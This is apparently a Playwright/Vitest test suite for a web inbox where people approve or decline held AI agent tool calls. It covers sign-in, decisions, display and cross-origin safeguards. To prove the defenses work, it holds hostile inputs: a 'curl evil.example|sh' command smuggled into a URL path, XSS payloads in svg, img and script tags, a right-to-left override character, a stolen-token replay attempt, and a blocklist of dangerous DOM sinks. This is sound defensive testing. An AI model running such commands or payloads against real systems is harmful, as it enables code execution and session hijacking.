import { createServer } from 'node:http'
import type { IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { Script } from 'node:vm'
import { claimDispatch, concludeDispatch, loseDispatch } from '@holdpoint/core'
import type { Hold } from '@holdpoint/core'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { pageFile } from '../src/page/index.ts'
import { startService } from './http-service.ts'
import type { TestService } from './http-service.ts'
import { launchChromium } from './page-browser.ts'

let browser: Browser
let service: TestService
let context: BrowserContext
let page: Page

let gateOff: string | null = null

beforeAll(async () => {
  browser = await launchChromium()
  service = await startService({ gateOff: () => gateOff })
})

afterAll(async () => {
  await browser.close()
  await service.close()
})

beforeEach(newContext)

afterEach(async () => await context.close())

async function newContext(): Promise<void> {
  context = await browser.newContext({ viewport: { width: 1000, height: 800 } })
  context.setDefaultTimeout(8000)
  page = await context.newPage()
}

async function openSignedIn(path: string, on: Page = page): Promise<void> {
  const { location } = await service.access.mintSignIn(path)
  await on.goto(service.origin + location)
}

async function approveEnabled(on: Page = page): Promise<void> {
  await on.waitForSelector('#approve:not([disabled])')
}

async function stored(held: Hold): Promise<Hold> {
  return (await service.store.holds.get(held.id)) ?? held
}

describe('signing in', () => {
  test('without a key the page explains how to get one and shows nothing', async () => {
    const held = await service.hold()
    await page.goto(`${service.origin}/approvals/${held.id}`)
    expect(await page.textContent('main')).toContain(`npx holdpoint open ${held.id}`)
    expect(await page.textContent('body')).not.toContain('delete_contact')
  })

  test('a link cannot put words of its own into the command to copy', async () => {
    for (const path of ['/approvals/x;curl%20evil.example|sh', '/approvals/%E0%A4%A', '/approvals/--config']) {
      await page.goto(service.origin + path)
      await page.waitForSelector('.command code')
      expect(await page.textContent('.command code')).toBe('npx holdpoint open')
    }
  })

  test('a link signs in, leaves the address bar clean and sets no cookie', async () => {
    await service.hold()
    await openSignedIn('/')
    await page.waitForSelector('#waiting')
    expect(page.url()).toBe(`${service.origin}/`)
    expect(await page.textContent('#who')).toContain('local:ana')
    expect(await context.cookies()).toEqual([])
    await page.reload()
    await page.waitForSelector('#waiting')
  })

  test('[L15] a link used a second time is refused, and the first browser is told at once', async () => {
    const { location } = await service.access.mintSignIn('/')
    await page.goto(service.origin + location)
    await page.waitForSelector('#who .name')
    const other = await browser.newContext()
    const second = await other.newPage()
    await second.goto(service.origin + location)
    await second.waitForSelector('.sign-in')
    expect(await second.textContent('.trouble')).toContain('already used')
    expect(await second.evaluate(() => localStorage.getItem('holdpoint.key'))).toBeNull()
    await page.waitForSelector('.banner.stop')
    expect(await page.textContent('.banner.stop')).toContain('used a second time')
    await page.click('.banner.stop >> text=Sign out')
    await page.waitForSelector('.sign-in')
    expect((await service.audit()).at(-1)).toMatchObject({ kind: 'token-revoked', actor: 'local:ana' })
    await other.close()
  })

  test("an approver's token can be pasted; an agent's or a wrong one is refused with the reason", async () => {
    await page.goto(service.origin)
    for (const [token, reason] of [
      ['hp_wrong', 'not valid'],
      [await service.token('agent'), "agent's token opens nothing"],
    ] as const) {
      await page.fill('#token', token)
      await page.click('text=Use this token')
      await page.waitForFunction((text) => document.querySelector('.trouble')?.textContent?.includes(text), reason)
      expect(await page.evaluate(() => localStorage.getItem('holdpoint.key'))).toBeNull()
    }
    await page.fill('#token', await service.token('approver', 'ben'))
    await page.click('text=Use this token')
    await page.waitForSelector('#who .name')
    expect(await page.textContent('#who')).toContain('ben')
  })
})

describe('deciding', () => {
  test('a click on Approve approves via the page, and the buttons give way to who, where and when', async () => {
    const held = await service.hold()
    await openSignedIn(`/approvals/${held.id}`)
    await approveEnabled()
    await page.click('#approve')
    await page.waitForSelector('#standing')
    expect(await page.textContent('#standing')).toContain('Approved by local:ana via page')
    expect(await page.$('#approve, #decline')).toBeNull()
    const verdicts = (await stored(held)).verdicts
    expect(verdicts).toMatchObject([{ answer: 'approve', by: 'local:ana', via: 'page', assurance: 'identified' }])
  })

  test('a decline carries its reason', async () => {
    const held = await service.hold()
    await openSignedIn(`/approvals/${held.id}`)
    await page.fill('#reason', 'not this one')
    await approveEnabled()
    await page.click('#decline')
    await page.waitForSelector('#standing')
    expect(await page.textContent('#standing')).toContain('not this one')
    expect(await stored(held)).toMatchObject({ state: 'declined', verdicts: [{ reason: 'not this one' }] })
  })

  test('Approve stays shut until the end of the arguments was on the screen', async () => {
    const held = await service.hold({
      arguments: { text: Array.from({ length: 400 }, (_, line) => `line ${line}`).join('\n') },
    })
    await openSignedIn(`/approvals/${held.id}`)
    await page.waitForSelector('#approve')
    await page.locator('#approve').scrollIntoViewIfNeeded()
    await page.waitForTimeout(700)
    expect(await page.isDisabled('#approve')).toBe(true)
    await page.evaluate(() => document.querySelector('[aria-label=Arguments]')?.scrollTo(0, 1e6))
    await approveEnabled()
    expect(await page.textContent('.bytes-area')).toContain('line 399')
  })

  test('[D13] synthetic and too early clicks decide nothing', async () => {
    const held = await service.hold()
    await openSignedIn(`/approvals/${held.id}`)
    await page.waitForSelector('#decline')
    await page.evaluate(() => {
      for (const id of ['approve', 'decline']) {
        const button = document.getElementById(id) as HTMLButtonElement
        button.disabled = false
        button.click()
      }
    })
    await approveEnabled()
    await page.waitForTimeout(500)
    await page.evaluate(() => {
      document.getElementById('approve')?.click()
      document.getElementById('decline')?.dispatchEvent(new MouseEvent('click', { bubbles: true }))
    })
    await page.waitForTimeout(200)
    expect(await stored(held)).toMatchObject({ state: 'pending', verdicts: [] })
  })

  test('[D13] a click in the first 400 ms decides nothing, even on a button that is awake', async () => {
    const held = await service.hold()
    await page.clock.install()
    await openSignedIn(`/approvals/${held.id}`)
    await page.waitForSelector('#decline')
    await page.clock.pauseAt(Date.now() + 60_000)
    const shown = await service.hold()
    await page.goto(`${service.origin}/approvals/${shown.id}`)
    await page.waitForSelector('#decline')
    await page.clock.runFor(300)
    await page.click('#decline')
    await page.waitForTimeout(100)
    expect(await stored(shown)).toMatchObject({ state: 'pending', verdicts: [] })
    await page.clock.runFor(300)
    await page.click('#decline')
    await page.waitForSelector('#standing')
    expect(await stored(shown)).toMatchObject({ state: 'declined' })
  })

  test('the keyboard alone is enough', async () => {
    const held = await service.hold()
    await openSignedIn(`/approvals/${held.id}`)
    await approveEnabled()
    await page.focus('#reason')
    await page.keyboard.type('ok')
    await page.keyboard.press('Tab')
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('approve')
    await page.keyboard.press('Enter')
    await page.waitForSelector('#standing')
    expect(await stored(held)).toMatchObject({ state: 'approved', verdicts: [{ reason: 'ok' }] })
  })

  test('[S2] a decision that came too late shows who was first', async () => {
    const held = await service.hold()
    await page.route('**/admin/events', (route) => route.abort())
    await openSignedIn(`/approvals/${held.id}`)
    await approveEnabled()
    const token = await service.token('approver', 'ben')
    await service.call('POST', `/admin/approvals/${held.id}/reject`, { token, body: { reason: 'no' } })
    await page.click('#approve')
    await page.waitForSelector('#standing')
    expect(await page.textContent('#standing')).toContain('Declined by ben via api')
    expect(await page.textContent('#standing .trouble')).toContain('Already declined by ben')
    expect((await stored(held)).state).toBe('declined')
  })

  test('a decision made elsewhere appears without a click, and so does the outcome', async () => {
    const held = await service.hold()
    await openSignedIn(`/approvals/${held.id}`)
    await approveEnabled()
    const token = await service.token('approver', 'ben')
    await service.call('POST', `/admin/approvals/${held.id}/approve`, { token })
    await page.waitForSelector('#standing')
    await claimDispatch(service.store, held.id, 'attempt-1', held.owner)
    const resultText = JSON.stringify({ content: [{ type: 'text', text: 'gone <b>now</b>\u202e' }] })
    await concludeDispatch(service.store, held.id, 'attempt-1', {
      kind: 'result',
      isError: false,
      resultText,
      truncated: false,
    })
    await page.waitForSelector('[aria-label=Outcome]')
    expect(await page.textContent('[aria-label=Outcome]')).toBe('gone <b>now</b>⟦U+202E⟧')
  })

  test('an unknown outcome asks a person what became of it', async () => {
    const held = await service.hold()
    const token = await service.token('approver', 'ben')
    await service.call('POST', `/admin/approvals/${held.id}/approve`, { token })
    await claimDispatch(service.store, held.id, 'attempt-1', held.owner)
    await loseDispatch(service.store, held.id, 'attempt-1', 'The server went away.')
    await openSignedIn(`/approvals/${held.id}`)
    await page.click('text=It did not run')
    expect(await page.textContent('.deciding .trouble')).toContain('how you know')
    await page.fill('#note', 'the contact is still there')
    await page.click('text=It did not run')
    await page.waitForFunction(() => document.getElementById('standing')?.textContent?.includes('Resolved'))
    expect((await stored(held)).outcome).toMatchObject({ kind: 'resolved', executed: false, by: 'local:ana' })
  })

  test('a reader sees everything and no buttons', async () => {
    const held = await service.hold()
    await page.goto(service.origin)
    await page.fill('#token', await service.token('viewer'))
    await page.click('text=Use this token')
    await page.waitForSelector('#waiting')
    await page.goto(`${service.origin}/approvals/${held.id}`)
    await page.waitForSelector('.hold')
    expect(await page.textContent('.hold')).toContain('not decide')
    expect(await page.$('#approve, #decline')).toBeNull()
  })
})

describe('showing', () => {
  test('[D1] [D9] what an agent or server wrote stays text, with hidden characters visible', async () => {
    const held = await service.hold({
      arguments: {
        'a\u202eb': '<svg onload="window.hacked=1"><img src=x onerror="window.hacked=1">',
        note: 'x\n✅ Approved by admin',
      },
      client: '<img src=x onerror=window.hacked=1>\u202e',
      rationale: '<script>window.hacked=1</script>',
      warnings: ['An identical call ran 40 s ago.'],
      ruling: { quorum: 2, irreversible: true },
    })
    await openSignedIn(`/approvals/${held.id}`)
    await page.waitForSelector('.hold')
    const text = (await page.textContent('.hold')) ?? ''
    for (const piece of [
      '<svg onload="window.hacked=1">',
      '<script>window.hacked=1</script>',
      '⟦U+202E⟧',
      '40 s ago',
      'claim',
      '0 of 2',
      'cannot be undone',
      'npx -y crm-server',
    ]) {
      expect(text).toContain(piece)
    }
    expect(text).not.toContain('\u202e')
    expect(await page.$('.hold svg, .hold img, .hold script')).toBeNull()
    expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined()
    await page.goto(service.origin)
    await page.waitForSelector('#waiting')
    expect(await page.textContent('#waiting')).not.toContain('\u202e')
  })

  test('the list is live, in every tab, over one connection', async () => {
    let streams = 0
    context.on('request', (request) => (streams += request.url().endsWith('/admin/events') ? 1 : 0))
    await openSignedIn('/')
    await page.waitForSelector('#who .name')
    const tab = await context.newPage()
    await tab.goto(service.origin)
    await tab.waitForSelector('#who .name')
    const held = await service.hold()
    for (const each of [page, tab]) await each.waitForSelector(`[data-hold="${held.id}"]`)
    expect(streams).toBe(1)
    expect(await page.title()).toMatch(/^\(\d+\) Holdpoint$/)
    await page.close()
    await tab.waitForTimeout(100)
    const later = await service.hold()
    await tab.waitForSelector(`[data-hold="${later.id}"]`)
  })

  test('a pause and an open gate stand above everything', async () => {
    gateOff = 'profile observe'
    await openSignedIn('/')
    await page.waitForSelector('.banner.stop')
    expect(await page.textContent('.banner.stop')).toContain('GATE OFF: profile observe')
    await page.click('#who >> text=Pause')
    await page.waitForSelector('text=Paused by local:ana')
    await page.click('button:text("Resume")')
    await page.waitForSelector('text=Paused by local:ana', { state: 'detached' })
    expect(await service.store.settings.get('gate/paused')).toBeNull()
    gateOff = null
  })

  test('every text has a contrast of at least 4.5, every target 44 px, and nothing scrolls sideways on a phone', async () => {
    const held = await service.hold({
      warnings: ['An identical call ran 40 s ago.'],
      arguments: { key: 'x'.repeat(300), deep: { deeper: { deepest: 'value' } } },
    })
    await context.close()
    for (const colorScheme of ['light', 'dark'] as const) {
      context = await browser.newContext({ viewport: { width: 390, height: 844 }, colorScheme })
      page = await context.newPage()
      await openSignedIn('/')
      await page.waitForSelector('#who .name')
      for (const path of ['/', `/approvals/${held.id}`]) {
        await page.goto(service.origin + path)
        await page.waitForSelector('#waiting, .hold')
        const found = await page.evaluate(measure)
        expect([path, colorScheme, found]).toEqual([path, colorScheme, { faint: [], small: [], wide: false }])
      }
      await context.close()
    }
    await newContext()
  })
})

describe('the boundary', () => {
  test('[E14] framed by another page, the inbox is blocked', async () => {
    await openSignedIn('/')
    await page.waitForSelector('#who .name')
    const elsewhere = await serveElsewhere(() => `<!doctype html><iframe src="${service.origin}/"></iframe>`)
    await page.goto(elsewhere.origin)
    await page.waitForTimeout(500)
    const frame = page.frames()[1]
    expect(frame?.url()).not.toContain(service.origin)
    expect(await frame?.locator('#main').count()).toBe(0)
    await elsewhere.close()
  })

  test('[L14] a page on another localhost port receives no key of ours, and cannot use one', async () => {
    const held = await service.hold()
    await openSignedIn('/')
    await page.waitForSelector('#waiting')
    const key = await page.evaluate(() => localStorage.getItem('holdpoint.key'))
    expect(key).toMatch(/^hp_/)
    const elsewhere = await serveElsewhere(() => '<!doctype html><title>dev server</title>')
    await page.evaluate(
      (url) => fetch(url, { mode: 'no-cors', credentials: 'include' }).catch(() => undefined),
      elsewhere.origin,
    )
    await page.goto(elsewhere.origin)
    expect(elsewhere.seen.length).toBeGreaterThan(0)
    for (const headers of elsewhere.seen) {
      expect(headers.cookie).toBeUndefined()
      expect(headers.authorization).toBeUndefined()
      expect(JSON.stringify(headers)).not.toContain(key)
    }
    expect(await page.evaluate(() => localStorage.length + document.cookie)).toBe('0')
    const stolen = await page.evaluate(
      async ([url, secret]) => {
        const headers = { authorization: `Bearer ${secret}`, 'content-type': 'application/json' }
        const ways = [
          {},
          { headers },
          { method: 'POST', mode: 'no-cors', body: '{}' } as const,
          { method: 'POST', headers, body: '{}' },
        ]
        return await Promise.all(
          ways.map((way) =>
            fetch(url ?? '', way).then(
              (answer) => (answer.type === 'opaque' ? 'opaque' : 'read'),
              () => 'blocked',
            ),
          ),
        )
      },
      [`${service.origin}/admin/approvals/${held.id}/approve`, key],
    )
    expect(stolen).not.toContain('read')
    expect((await stored(held)).state).toBe('pending')
    await elsewhere.close()
  })

  test('the script is one valid file that never writes markup', () => {
    const script = pageFile('/page/app.js')?.body ?? ''
    expect(() => new Script(script)).not.toThrow()
    expect(script).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function/)
    expect(pageFile('/page/../secret')).toBeNull()
    expect(pageFile('/constructor')).toBeNull()
    expect(pageFile('/approvals/a/b')).toBeNull()
  })
})

interface Elsewhere {
  readonly origin: string
  readonly seen: IncomingHttpHeaders[]
  readonly close: () => Promise<void>
}

async function serveElsewhere(document: () => string): Promise<Elsewhere> {
  const seen: IncomingHttpHeaders[] = []
  const server = createServer((request, response) => {
    seen.push(request.headers)
    response.setHeader('content-type', 'text/html')
    response.end(document())
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    seen,
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

/** Runs in the page. */
function measure(): { faint: string[]; small: string[]; wide: boolean } {
  const channels = (color: string): number[] => (color.match(/[\d.]+/g) ?? []).map(Number)
  const luminance = (color: string): number => {
    const [red = 0, green = 0, blue = 0] = channels(color).map((value) => {
      const part = value / 255
      return part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4
    })
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
  }
  const backgroundOf = (start: Element): string => {
    for (let element: Element | null = start; element !== null; element = element.parentElement) {
      const color = getComputedStyle(element).backgroundColor
      if ((channels(color)[3] ?? 1) === 1) return color
    }
    return 'rgb(255, 255, 255)'
  }
  const faint: string[] = []
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
  while (texts.nextNode() !== null) {
    const element = texts.currentNode.parentElement
    const text = texts.currentNode.textContent?.trim() ?? ''
    if (element === null || text === '' || element.closest('noscript, .skip, .quiet, script, style') !== null) continue
    const [one, other] = [luminance(getComputedStyle(element).color), luminance(backgroundOf(element))]
    const contrast = (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05)
    if (contrast < 4.5) faint.push(`${text}: ${contrast.toFixed(2)}`)
  }
  const small = [...document.querySelectorAll('main a, button, input, textarea')]
    .filter((element) => element.getBoundingClientRect().height < 44)
    .map((element) => element.textContent ?? '')
  return { faint, small, wide: document.documentElement.scrollWidth > innerWidth }
}
